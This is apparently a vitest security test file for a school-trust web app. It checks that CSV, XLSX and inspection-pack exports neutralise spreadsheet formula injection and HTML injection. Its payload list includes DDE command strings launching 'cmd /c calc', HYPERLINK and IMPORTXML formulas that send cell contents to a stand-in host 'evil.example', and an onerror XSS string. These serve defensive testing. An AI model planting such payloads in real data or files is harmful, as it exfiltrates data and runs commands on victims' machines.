import { strFromU8, unzipSync } from "fflate";
import { beforeAll, expect, test, vi } from "vitest";
import { type Cell, toCsv, toXlsx } from "../app/platform/web/spreadsheet.ts";
import { routes } from "../app/routes.ts";
import { demonstration, type Identity } from "./demonstration.ts";
import { sayGate } from "./gate.ts";

// The planted fault: a CSV that quotes its cells and leaves them as they are. The proof must go red on it.
vi.mock("../app/platform/web/spreadsheet.ts", async (original) => {
  const real = await original<typeof import("../app/platform/web/spreadsheet.ts")>();
  if (process.env.EDDYSTONE_FAULT !== "export") return real;
  const quoted = (cell: Cell) => (typeof cell === "string" ? `"${cell.replaceAll('"', '""')}"` : (cell ?? ""));
  return { ...real, toCsv: (rows: readonly (readonly Cell[])[]) => rows.map((row) => row.map(quoted).join(",")).join("\r\n") };
});

/** What a spreadsheet would run if it took it for a formula: in signs, spaces, quotes, line ends and the wide signs of East Asian keyboards. */
const payloads = [
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "＝1+1",
  "＋1+1",
  "－1+1",
  "＠SUM(A1)",
  "|cmd /c calc",
  '=HYPERLINK("http://evil.example?x="&A1,"Open")',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '",=1+1,"',
  "a\r\n=1+1",
  "'=1+1",
  '<c r="A9"><f>1+1</f></c>]]>&amp;_x003D_1',
] as const;

const { signIn, app, house, row } = await demonstration();
let people: Record<string, Identity>;
/** The academies' and regions' own names, in place of which each payload stands once. */
const named: string[] = [];

let planId = "";
beforeAll(async () => {
  people = { leader: await signIn("rosalind.penhale") };
  // Names, people and categories as somebody malicious would have them: whatever a trust can write is in some column.
  const keeper = house.keeper.pool;
  const { rows } = await keeper.query<{ id: string }>(
    "select id from organisation.unit where kind in ('academy', 'region') order by kind, name",
  );
  for (const [at, { id }] of rows.entries()) {
    const name = `${payloads[at % payloads.length]}${at >= payloads.length ? at : ""}`;
    await keeper.query("update organisation.unit set name = $2 where id = $1", [id, name]);
    named.push(name);
  }
  const { rows: persons } = await keeper.query<{ id: string }>("select id from organisation.person order by name");
  for (const [at, { id }] of persons.entries())
    await keeper.query("update organisation.person set name = $2 where id = $1", [id, payloads[at % payloads.length]]);
  planId = (await row<{ id: string }>("select plan_id as id from improve.plan_version where title = 'Trust improvement plan 2026'")).id;
  const { rows: parts } = await keeper.query<{ id: string }>("select id from improve.part where plan_id = $1 order by id", [planId]);
  for (const [at, { id }] of parts.entries())
    await keeper.query("update improve.part_version set title = $2, why = $2 where part_id = $1", [id, payloads[at % payloads.length]]);
});

/** A CSV as RFC 4180 has it: quoted cells with doubled quotes, or bare ones. */
function readCsv(text: string): { text: string; quoted: boolean }[][] {
  const rows: { text: string; quoted: boolean }[][] = [[]];
  const cells = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gy;
  cells.lastIndex = text.startsWith("\uFEFF") ? 1 : 0;
  while (cells.lastIndex < text.length) {
    const found = cells.exec(text);
    if (!found) throw new Error(`no CSV at ${cells.lastIndex}`);
    const [, quoted, bare, end] = found;
    rows.at(-1)?.push({ text: quoted === undefined ? (bare ?? "") : quoted.replaceAll('""', '"'), quoted: quoted !== undefined });
    if (end === "\r\n") rows.push([]);
  }
  return rows;
}
/** Whether a spreadsheet would evaluate a cell's text: it begins, after whatever shows as nothing, with a sign of a formula, and is no number. */
const isLive = (text: string) => /^[\s\p{C}]*[=+\-@＝＋－＠|]/u.test(text) && !/^-?\d+(\.\d+)?$/.test(text);

type Element = { readonly name: string; readonly attributes: Record<string, string>; readonly text: string; readonly children: Element[] };
/** XML read plainly, and strictly: what is not well-formed is refused. */
function readXml(xml: string): Element {
  const decode = (text: string) =>
    text.replace(/&(?:#(\d+)|#x([0-9a-f]+)|(\w+));/gi, (_all, decimal, hex, name) => {
      const known: Record<string, string> = { amp: "&", lt: "<", gt: ">", quot: '"', apos: "'" };
      if (decimal || hex) return String.fromCodePoint(decimal ? Number(decimal) : Number.parseInt(hex, 16));
      if (!Object.hasOwn(known, name)) throw new Error(`no entity ${name}`);
      return known[name] ?? "";
    });
  const token = /<\?[^>]*\?>|<(\/?)([\w:]+)((?:\s+[\w:]+="[^"<]*")*)\s*(\/?)>|([^<]+)/gy;
  const root = { name: "", attributes: {}, text: "", children: [] as Element[] };
  const open: { name: string; attributes: Record<string, string>; text: string; children: Element[] }[] = [root];
  // Line ends are one line feed to an XML reader, unless they are written as characters.
  const source = xml.replaceAll("\r\n", "\n").replaceAll("\r", "\n");
  for (let at = 0; at < source.length; at = token.lastIndex) {
    token.lastIndex = at;
    const found = token.exec(source);
    const here = open.at(-1);
    if (!found || !here) throw new Error(`not well-formed at ${at}: ${source.slice(at, at + 40)}`);
    const [, closing, name, attributes = "", empty, text] = found;
    if (text !== undefined) {
      if (text.includes("]]>")) throw new Error("]]> in text");
      here.text += decode(text);
    } else if (closing) {
      if (open.pop()?.name !== name) throw new Error(`</${name}> closes nothing`);
    } else if (name) {
      const element = {
        name,
        attributes: Object.fromEntries(
          [...attributes.matchAll(/([\w:]+)="([^"]*)"/g)].map(([, key = "", value = ""]) => [key, decode(value)]),
        ),
        text: "",
        children: [],
      };
      here.children.push(element);
      if (!empty) open.push(element);
    }
  }
  if (open.length !== 1) throw new Error(`<${open.at(-1)?.name}> is not closed`);
  return root;
}
const all = (element: Element, name: string): Element[] => [
  ...(element.name === name ? [element] : []),
  ...element.children.flatMap((child) => all(child, name)),
];
/** Excel writes what XML cannot hold, and what looks like that, as _xHHHH_. */
const withoutEscapes = (text: string) => text.replace(/_x([0-9A-F]{4})_/gi, (_all, hex) => String.fromCharCode(Number.parseInt(hex, 16)));
/** The cells of a workbook's sheets, each with its kind; and the formulas in them. */
function readXlsx(bytes: Uint8Array) {
  const parts = Object.entries(unzipSync(bytes));
  const read = parts.map(([name, content]) => ({ name, xml: readXml(strFromU8(content)) }));
  const sheets = read.filter(({ name }) => name.includes("worksheets/"));
  const cells = sheets.flatMap(({ xml }) => all(xml, "c"));
  return {
    formulas: read.flatMap(({ xml }) => [...all(xml, "f"), ...all(xml, "definedName"), ...all(xml, "hyperlink"), ...all(xml, "ddeLink")]),
    odd: parts.map(([name]) => name).filter((name) => /vba|externalLink|connections|\.bin$/i.test(name)),
    cells: cells.map((cell) => ({
      kind: cell.attributes.t ?? "n",
      text:
        cell.attributes.t === "inlineStr"
          ? withoutEscapes(
              all(cell, "t")
                .map(({ text }) => text)
                .join(""),
            )
          : (all(cell, "v")[0]?.text ?? ""),
    })),
  };
}

test("no cell of a CSV is live, numbers stay numbers, and every text is still there", () => {
  const live: string[] = [];
  for (const payload of payloads) {
    const [cells = []] = readCsv(toCsv([[payload, -5, 0.5, null, "plain", payload]]));
    live.push(...cells.filter((cell) => isLive(cell.text)).map((cell) => cell.text));
    expect(cells.map(({ quoted }) => quoted)).toEqual([true, false, false, false, true, true]);
    expect(cells.slice(1, 5).map(({ text }) => text)).toEqual(["-5", "0.5", "", "plain"]);
    // One apostrophe at most was put before it.
    expect([payload, `'${payload}`]).toContain(cells[0]?.text);
  }
  expect(live).toEqual([]);
});

test("no cell of a workbook is live, whatever is in it, and every text comes back unchanged", () => {
  const rows: Cell[][] = payloads.map((payload) => [payload, -5, null, "plain"]);
  const { formulas, odd, cells } = readXlsx(toXlsx("Any <&> name: of [a] sheet/that * is ? long enough", rows));
  expect([formulas, odd]).toEqual([[], []]);
  expect(cells).toEqual(
    rows.flatMap(([payload]) => [
      { kind: "inlineStr", text: payload },
      { kind: "n", text: "-5" },
      { kind: "inlineStr", text: "plain" },
    ]),
  );
});

const exporters = routes
  .filter(({ method, path }) => method === "get" && /\.(csv|xlsx)$/.test(path))
  .map(({ path }) => path.replace(":trust", "granite-coast").replace(/:urn\{[^/]*\}(?=\/)/, "990001"))
  // A template is of a measure and a period.
  .map((path) => (path.includes("/template.") ? `${path}?measure=eyfs-gld&period=2025/26` : path));

test.each(exporters)("%s: a trust whose every name is a formula exports none", async (pattern) => {
  const path = pattern.replace(/:plan\{[^/]*\}(?=\/)/, planId);
  const answer = await app.request(`http://localhost${path}`, { headers: { Cookie: people.leader?.cookie ?? "" } });
  expect(answer.status).toBe(200);
  expect(answer.headers.get("content-disposition")).toMatch(/^attachment; filename="[\w-]+\.(csv|xlsx)"$/);
  const bytes = new Uint8Array(await answer.arrayBuffer());
  const workbook = path.includes(".xlsx");
  const { formulas, odd, cells } = workbook
    ? readXlsx(bytes)
    : {
        formulas: [],
        odd: [],
        cells: readCsv(new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes))
          .flat()
          .map(({ text, quoted }) => ({ kind: quoted ? "s" : "n", text })),
      };
  const live = workbook ? cells.filter(({ kind }) => !["inlineStr", "n"].includes(kind)) : cells.filter(({ text }) => isLive(text));
  sayGate("export", { figure: `${path}: ${live.length + formulas.length} live cells of ${cells.length}`, target: "0" });
  expect([live, formulas, odd]).toEqual([[], [], []]);
  // Numbers are numbers: of what is not text, nothing is anything else.
  expect(cells.filter(({ kind, text }) => kind === "n" && text !== "" && !Number.isFinite(Number(text)))).toEqual([]);
  // And the payloads were really in it.
  const texts = cells.map(({ text }) => text);
  const there = named.filter((name) => texts.some((text) => text === name || text === `'${name}`));
  if (path.includes("standing")) expect(there.length).toBeGreaterThan(15);
  // A calendar holds days and the names of half-terms, and the page about a file of pupils its columns: these are ours.
  else if (!/calendar|pupils-template/.test(path))
    expect(payloads.filter((payload) => texts.some((text) => text.replace(/^'/, "") === payload.replace(/^'/, ""))).length).toBeGreaterThan(
      15,
    );
});

test("the pack for an inspection holds no live cell in any of its tables, and its page no element that somebody wrote", async () => {
  const keeper = house.keeper.pool;
  await keeper.query("update inspection.checked set seen = $1", ['=HYPERLINK("http://evil.example?x="&A1,"Open")']);
  await keeper.query("update evidence.item set title = '<img src=x onerror=alert(1)>=1+1'");
  const answer = await app.request("http://localhost/granite-coast/inspection/990001/pack.zip", {
    headers: { Cookie: people.leader?.cookie ?? "" },
  });
  expect([answer.status, answer.headers.get("content-disposition")]).toEqual([
    200,
    'attachment; filename="inspection-pack-990001-2026-11-21.zip"',
  ]);
  const files = Object.entries(unzipSync(new Uint8Array(await answer.arrayBuffer()))).map(([name, bytes]) => ({
    name,
    text: new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes),
  }));
  const tables = files.filter(({ name }) => name.endsWith(".csv"));
  const cells = tables.flatMap(({ text }) => readCsv(text).flat());
  const live = cells.filter(({ text }) => isLive(text));
  sayGate("export", { figure: `the pack: ${live.length} live cells of ${cells.length} in ${tables.length} tables`, target: "0" });
  expect(tables).toHaveLength(6);
  expect(live).toEqual([]);
  expect(cells.some(({ text }) => text.startsWith("'=HYPERLINK"))).toBe(true);
  const page = files.find(({ name }) => name === "pack.html")?.text ?? "";
  expect([
    page.includes("&lt;img src=x"),
    /<(?!\/?(html|head|meta|title|style|body|h1|h2|p|table|thead|tbody|tr|th|td)\b|!doctype)/.test(page),
  ]).toEqual([true, false]);
});

test("the walk met every kind of exporter", async () => {
  expect(exporters.length).toBeGreaterThanOrEqual(2);
  expect((await row<{ n: number }>("select count(*)::int as n from organisation.unit where name = '=1+1'")).n).toBe(1);
});
